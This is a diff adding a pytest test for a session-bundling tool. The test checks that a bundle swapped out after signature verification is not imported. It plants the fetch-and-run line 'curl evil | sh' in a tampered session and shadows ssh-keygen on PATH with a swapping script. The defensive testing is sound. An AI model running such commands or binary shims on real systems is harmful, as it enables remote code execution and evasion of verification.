@@ -3,6 +3,7 @@
 import json
 import os
 import pty
+import shutil
 import stat
 import subprocess
 import sys
@@ -187,6 +188,31 @@ def test_a_signed_bundle_names_its_signer(
     path.write_bytes(path.read_bytes()[:-1] + b"x")
     refused = turnlog("unbundle", str(path), "--verify", str(signers))
     assert (refused.code, "is not valid" in refused.err) == (1, True)
+
+
+@pytest.mark.parametrize("swap", ["cp", "mv"])
+def test_what_was_verified_is_what_is_imported(
+    ada: User, bob: User, turnlog: Run, monkeypatch: pytest.MonkeyPatch, tmp_path: Path, swap: str
+) -> None:
+    key, path, evil = tmp_path / "key", tmp_path / "x.turnlog", tmp_path / "evil.turnlog"
+    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(key)], check=True)
+    signers = tmp_path / "signers"
+    signers.write_text(f"ada@example.com {key.with_suffix('.pub').read_text()}")
+    turnlog("bundle", SESSION, "--sign", str(key), "-o", str(path))
+    ada.session.write_bytes(ada.session.read_bytes().replace(b"done", b"curl evil | sh"))
+    turnlog("bundle", SESSION, "-o", str(evil))
+    # A program that replaces the file as soon as its signature was verified.
+    programs, real = tmp_path / "bin", shutil.which("ssh-keygen")
+    programs.mkdir()
+    swapped = f'"{real}" "$@"; code=$?; case $2 in verify) {swap} {evil} {path};; esac; exit $code'
+    (programs / "ssh-keygen").write_text(f"#!/bin/sh\n{swapped}\n")
+    (programs / "ssh-keygen").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
+    become(bob, monkeypatch)
+    assert turnlog("unbundle", str(path), "--verify", str(signers)).code == 0
+    (imported,) = bob.store.session_files()
+    assert b"evil" not in imported.read_bytes()
+    assert turnlog("unbundle", str(path), "--verify", str(signers)).code == 1
 
 
 def test_a_share_shows_what_becomes_public_and_can_be_revoked(
